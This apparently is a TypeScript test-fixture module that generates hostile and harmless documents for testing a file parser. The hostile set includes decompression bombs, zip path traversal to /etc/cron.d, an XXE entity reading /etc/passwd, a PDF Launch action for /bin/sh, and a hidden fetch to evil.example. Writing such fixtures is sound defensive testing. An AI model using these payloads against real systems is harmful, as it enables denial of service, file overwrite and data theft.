import { deflateSync, gzipSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import sharp from 'sharp'
import { box, crc, type HostileFile, pdf, png, u16, u32 } from './by-hand.ts'

const latin = (text: string) => Buffer.from(text, 'latin1')
const zip = (files: Record<string, string>) =>
  Buffer.from(zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text)]))))
const contentTypes = (type: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/a.xml" ContentType="${type}"/></Types>`

/** A PDF of these objects, each with its number. */
const pdfOf = (...objects: string[]) =>
  latin(
    `%PDF-1.7\n${objects.map((text, index) => `${index + 1} 0 obj${text}endobj`).join('\n')}\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
  )
const catalog = '<</Type/Catalog/Pages 2 0 R>>'
const onePage = '<</Type/Pages/Kids[3 0 R]/Count 1>>'
const page = (more: string) => `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]${more}>>`
/** A PDF whose page is one picture, in a code that has had faults in other readers. */
const pdfOfPicture = (filter: string, data: string) =>
  pdfOf(
    catalog,
    onePage,
    page('/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>'),
    '<</Length 22>>stream\n300 0 0 400 0 0 cm /I Do\nendstream ',
    `<</Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/${filter}/Length ${data.length}>>stream\n${data}\nendstream `,
  )

/** Documents that are made to harm whoever opens them. */
export function hostileDocuments(): HostileFile[] {
  const garbage = '\x97JB2\r\n\x1a\n'.padEnd(400, '\xff\x4f\xff\x51')
  return listed({
    'pdf whose pages contain themselves': pdfOf(catalog, '<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>'),
    'pdf of a tree of 20,000 levels': pdfOf(
      catalog,
      ...Array.from({ length: 20_000 }, (_, level) => `<</Type/Pages/Kids[${level + 3} 0 R]/Count 1>>`),
    ),
    'pdf that claims 2 billion pages': pdfOf(catalog, '<</Type/Pages/Kids[]/Count 2147483647>>'),
    'pdf of a form within itself': pdfOf(
      catalog,
      onePage,
      page('/Contents 4 0 R/Resources<</XObject<</F 4 0 R>>>>'),
      '<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 4 0 R>>>>/Length 12>>stream\n/F Do /F Do \nendstream ',
    ),
    'pdf of a huge JBIG2': pdfOfPicture('JBIG2Decode', garbage),
    'pdf of a huge JPEG 2000': pdfOfPicture('JPXDecode', garbage),
    'pdf of a huge fax': pdfOfPicture('CCITTFaxDecode', garbage),
    'pdf of a huge run': pdfOfPicture('RunLengthDecode', '\x81\0'.repeat(200)),
    'pdf that starts a program': pdfOf(
      '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)>>/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>>>',
      onePage,
      page(''),
    ),
    'pdf that is locked': latin(
      pdf('0 g').toString('latin1').replace('<</Root', '<</Encrypt<</Filter/Standard/V 9/R 99/P -1/O()/U()>>/Root'),
    ),
    'pdf with 50,000 states that are kept': pdf('q '.repeat(50_000)),
    'pdf of deep lists': pdf(`${'['.repeat(50_000)} TJ`),
    'zip of 20,000 names': zip(Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`${i}`, '']))),
    'zip of names that leave it': zip({ '../../../../etc/cron.d/x': 'x', 'C:\\x': 'x', '/etc/x': 'x' }),
    'zip that claims 4 GB': latin(zip({ a: 'a' }).toString('latin1').replaceAll('\x01\0\0\0', '\xff\xff\xff\xff')),
    'zip of a zip of zeros': zip({ 'a.zip': gzipSync(Buffer.alloc(50_000_000)).toString('latin1') }),
    'gzip of zeros': gzipSync(Buffer.alloc(100_000_000)),
    'docx with macros': zip({
      '[Content_Types].xml': contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml'),
    }),
    'docx of entities': zip({
      '[Content_Types].xml': `<!DOCTYPE a [${Array.from({ length: 30 }, (_, i) => `<!ENTITY a${i} "&a${i - 1};&a${i - 1};">`).join('')}]><Types>&a29;</Types>`,
    }),
    'docx of a type of 10 MB': zip({ '[Content_Types].xml': contentTypes('a'.repeat(10_000_000)) }),
    'page that calls itself text': latin(`${' '.repeat(5000)}<html><script>fetch('//evil.example')</script>`),
    'xml that names a file': latin(
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    ),
    'mail of 2,000 parts within each other': latin('Content-Type: multipart/mixed; boundary=a\n\n--a\n'.repeat(2000)),
    'rtf of deep groups': latin(`{\\rtf1${'{'.repeat(100_000)}`),
    'program for Windows': Buffer.concat([latin('MZ'), Buffer.alloc(500), latin('PE\0\0')]),
    'program for Linux': Buffer.concat([latin('\x7fELF\x02\x01\x01'), Buffer.alloc(500)]),
    'tar of itself': Buffer.concat([latin('a'.padEnd(257, '\0')), latin('ustar\x0000'), Buffer.alloc(248)]),
    'letters that are cut': Buffer.from('é'.repeat(40_000)).subarray(1),
    'text of one line of 5 MB': Buffer.alloc(5_000_000, 'a'),
  })
}

/** Documents as programs write them. */
export function harmlessDocuments(): HostileFile[] {
  const type = 'application/vnd.openxmlformats-officedocument'
  return listed({
    docx: zip({
      '[Content_Types].xml': contentTypes(`${type}.wordprocessingml.document.main+xml`),
      'word/document.xml': '<a/>',
    }),
    xlsx: zip({
      '[Content_Types].xml': contentTypes(`${type}.spreadsheetml.sheet.main+xml`),
      'xl/workbook.xml': '<a/>',
    }),
    odt: Buffer.from(zipSync({ mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }] })),
    gzip: gzipSync('text'),
  })
}

/** Pictures whose movement is made to harm. */
export async function hostileAnimations(): Promise<HostileFile[]> {
  const still = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#3a7' } })
    .webp()
    .toBuffer()
  const control = (frames: number) => pngChunk('acTL', Buffer.concat([u32(frames), u32(0)]))
  const frame = (sequence: number, width: number) =>
    pngChunk('fcTL', Buffer.concat([u32(sequence), u32(width), u32(width), u32(width), u32(0), u16(1), u16(0), u16(0)]))
  const riff = (...chunks: Buffer[]) => {
    const body = Buffer.concat([latin('WEBP'), ...chunks])
    const size = Buffer.alloc(4)
    size.writeUInt32LE(body.length)
    return Buffer.concat([latin('RIFF'), size, body])
  }
  const header = latin('VP8X\x0a\0\0\0\x02\0\0\0\x0f\0\0\x0f\0\0ANIM\x06\0\0\0\0\0\0\0\0\0')
  const moved = (at: string) =>
    Buffer.concat([latin(`ANMF`), u32(0), latin(`${at}\x0f\0\0\x0f\0\0\x0a\0\0\0`), still.subarray(12)])
  return listed({
    'apng that claims 4 billion frames': png(16, 16, 16, control(0xffffffff)),
    'apng of frames outside of it': png(16, 16, 16, Buffer.concat([control(2), frame(0, 0xffffff)])),
    'apng of 20,000 frames without pixels': png(
      16,
      16,
      16,
      Buffer.concat([control(20_000), ...Array.from({ length: 20_000 }, (_, index) => frame(index, 16))]),
    ),
    'apng whose pixels are packed zeros': png(
      16,
      16,
      16,
      Buffer.concat([control(1), pngChunk('fdAT', deflateSync(Buffer.alloc(50_000_000)))]),
    ),
    'webp of frames of no size': riff(header, ...Array.from({ length: 3000 }, () => moved('\0\0\0\0\0\0'))),
    'webp of frames outside of it': riff(header, moved('\xff\xff\xff\xff\xff\xff')),
    'avif sequence of 65,535 pictures': Buffer.concat([
      box('ftyp', 'avis', u32(0), 'avis'),
      box('meta', u32(0), box('iinf', u32(0), u16(65_535), Buffer.alloc(100_000))),
    ]),
    'gif of a million comments': Buffer.concat([
      latin('GIF89a\x10\0\x10\0\0\0\0'),
      Buffer.alloc(4_000_000, latin('!\xfe\x01a')),
    ]),
  })
}

const pngChunk = (type: string, data: Buffer) =>
  Buffer.concat([u32(data.length), latin(type), data, u32(crc(Buffer.concat([latin(type), data])))])
const listed = (files: Record<string, Buffer>) => Object.entries(files).map(([name, bytes]) => ({ name, bytes }))
